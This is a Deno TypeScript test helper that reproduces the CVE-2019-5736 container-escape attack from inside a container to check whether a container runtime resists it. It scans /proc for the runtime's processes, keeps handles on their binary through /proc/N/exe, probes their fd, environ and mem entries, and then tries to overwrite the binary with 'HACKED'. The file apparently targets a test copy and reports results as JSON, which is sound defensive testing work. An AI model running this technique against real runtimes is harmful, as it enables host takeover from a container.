/**
 * The CVE-2019-5736 attacker: runs INSIDE a container (the host's deno and
 * its libraries bind-mounted read-only, as for probe.ts) and tries to get
 * hold of the runtime's binary through /proc.
 *
 *   exe_attacker.ts watch RUNTIME CONTROL STOPFILE
 *     polls /proc until STOPFILE exists; for every other process it tries
 *     /proc/N/exe (opened read-only and kept when it is the runtime's
 *     binary), and /proc/N/{fd,cwd,root,environ,mem,maps}; then, with no
 *     runtime process left, reopens every kept handle through
 *     /proc/self/fd/N for writing and writes "HACKED" at offset 64;
 *   exe_attacker.ts scan RUNTIME CONTROL
 *     one such pass, no writing;
 *
 * RUNTIME and CONTROL are "dev:ino" of the runtime's binary (a copy the
 * test made, so the real one is never at risk) and of a binary that a
 * container process of the test runs (the control: an ordinary, dumpable
 * process of the container, which the attacker must reach, or the attack
 * proves nothing). Prints one JSON line (see Report).
 *
 * Self-contained (no imports): it runs from a read-only bind mount.
 */

const libc = Deno.dlopen("libc.so.6", {
  open: { parameters: ["buffer", "i32", "u32"], result: "i32" },
  close: { parameters: ["i32"], result: "i32" },
  pwrite: { parameters: ["i32", "buffer", "usize", "i64"], result: "isize" },
  __errno_location: { parameters: [], result: "pointer" },
});

const O_RDONLY = 0;
const O_WRONLY = 1;
const ERRNO: Record<number, string> = {
  1: "EPERM",
  2: "ENOENT",
  13: "EACCES",
  26: "ETXTBSY",
  30: "EROFS",
};

function errnoName(): string {
  const e = new Deno.UnsafePointerView(libc.symbols.__errno_location()!).getInt32();
  return ERRNO[e] ?? `errno ${e}`;
}

function cstr(s: string): Uint8Array<ArrayBuffer> {
  return new TextEncoder().encode(s + "\0") as Uint8Array<ArrayBuffer>;
}

/** What the attacker reached. */
interface Report {
  scans: number;
  /** Processes with the runtime's binary as their image seen by pid (exe readable or not). */
  runtimeSeen: number;
  /** Handles opened on the runtime's binary through /proc/N/exe. */
  runtimeExe: number;
  /** Other /proc/N entries of runtime processes that could be read (the first 10 of them). */
  runtimeAccess: string[];
  /** How many such reads succeeded in all. */
  runtimeAccessCount: number;
  /** Handles opened on the control's binary: the method works. */
  controlExe: number;
  /** Outcomes of the write attempts through kept handles. */
  writes: string[];
}

const [mode, RUNTIME, CONTROL, STOPFILE] = Deno.args;
const self = String(Deno.pid);
const report: Report = {
  scans: 0,
  runtimeSeen: 0,
  runtimeExe: 0,
  runtimeAccess: [],
  runtimeAccessCount: 0,
  controlExe: 0,
  writes: [],
};
const kept: number[] = [];
const seenRuntime = new Set<string>();

function identity(path: string): string | null {
  try {
    const info = Deno.statSync(path);
    return `${info.dev}:${info.ino}`;
  } catch {
    return null;
  }
}

/** Whether /proc/PID/ENTRY gives anything away: a link target, contents, an open handle. */
function readable(pid: string, entry: string): boolean {
  const path = `/proc/${pid}/${entry}`;
  try {
    if (entry === "cwd" || entry === "root") Deno.readLinkSync(path);
    else if (entry === "mem") Deno.openSync(path).close();
    else if (entry === "fd") {
      // The numbers alone are listed for root (the directory belongs to
      // root when the process is not dumpable); their targets are the secret.
      for (const fd of Deno.readDirSync(path)) {
        try {
          Deno.readLinkSync(`${path}/${fd.name}`);
          return true;
        } catch {
          // refused, or gone
        }
      }
      return false;
    } else Deno.readFileSync(path);
    return true;
  } catch {
    return false;
  }
}

function comm(pid: string): string {
  try {
    return Deno.readTextFileSync(`/proc/${pid}/comm`).trim();
  } catch {
    return "";
  }
}

const MODES = ["__shim", "__stage2", "__exec", "__stop", "__cleanup"];

function isRuntimeArgv(pid: string): boolean {
  try {
    return Deno.readTextFileSync(`/proc/${pid}/cmdline`).split("\0").some((a) => MODES.includes(a));
  } catch {
    return false;
  }
}

/** One look at every process. */
function scan(): void {
  report.scans++;
  for (const entry of Deno.readDirSync("/proc")) {
    const pid = entry.name;
    if (!/^\d+$/.test(pid) || pid === self) continue;
    const fd = libc.symbols.open(cstr(`/proc/${pid}/exe`), O_RDONLY, 0);
    const exeError = fd < 0 ? errnoName() : "";
    let id: string | null = null;
    if (fd >= 0) {
      id = identity(`/proc/self/fd/${fd}`);
      if (id === RUNTIME) {
        report.runtimeExe++;
        kept.push(fd);
      } else {
        if (id === CONTROL) report.controlExe++;
        libc.symbols.close(fd);
      }
    }
    // A process whose image we cannot see may still be the runtime's: its
    // argv (readable by anyone) names an internal mode.
    const runtime = id === RUNTIME || isRuntimeArgv(pid);
    if (!runtime) continue;
    if (!seenRuntime.has(pid)) {
      seenRuntime.add(pid);
      report.runtimeSeen++;
    }
    for (const what of ["fd", "cwd", "root", "environ", "mem", "maps"]) {
      // Counted only when the process still was the runtime's afterwards:
      // one that exec'd its command meanwhile is the container's own.
      if (readable(pid, what) && isRuntimeArgv(pid) && report.runtimeAccessCount++ < 10) {
        report.runtimeAccess.push(`${what} of ${pid} (${comm(pid)}; its exe: ${exeError || id})`);
      }
    }
  }
}

function stopRequested(): boolean {
  try {
    Deno.statSync(STOPFILE);
    return true;
  } catch {
    return false;
  }
}

if (mode === "scan") {
  scan();
} else {
  console.log("attacker: watching");
  while (!stopRequested()) scan();
  // The runtime's binary is busy (ETXTBSY) while any process runs it; the
  // test stops us once none does, which is when the real attack writes.
  const payload = new TextEncoder().encode("HACKED") as Uint8Array<ArrayBuffer>;
  for (const fd of kept) {
    // ETXTBSY while a process still runs it (the CLI that made the stop
    // file, say): try again for a while, as a patient attacker would.
    let w = -1;
    for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
      w = libc.symbols.open(cstr(`/proc/self/fd/${fd}`), O_WRONLY, 0);
      if (w >= 0 || errnoName() !== "ETXTBSY") break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    if (w < 0) {
      report.writes.push(errnoName());
      continue;
    }
    const n = libc.symbols.pwrite(w, payload, BigInt(payload.length), 64n);
    report.writes.push(Number(n) === payload.length ? "written" : errnoName());
    libc.symbols.close(w);
  }
}
console.log(JSON.stringify(report));
